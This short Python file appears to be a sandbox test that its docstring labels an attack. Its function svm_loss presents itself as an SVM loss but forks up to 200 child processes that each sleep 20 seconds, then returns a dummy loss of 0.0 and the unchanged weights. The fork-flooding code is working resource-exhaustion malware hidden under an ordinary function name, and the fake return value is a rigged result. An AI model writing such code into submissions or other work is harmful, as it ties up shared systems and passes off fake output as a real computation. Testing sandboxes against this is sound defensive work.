"""Attack: 200 processes that sleep for 20 s."""

import os
import time
import numpy as np


THROWN = []


def svm_loss(W, X, y, reg=0.0):
    for _ in range(0 if THROWN else 200):
        THROWN.append(1)
        try:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        except OSError:
            break
    return 0.0, W


def add_bias(X):
    return np.hstack([X, np.ones((len(X), 1), X.dtype)])
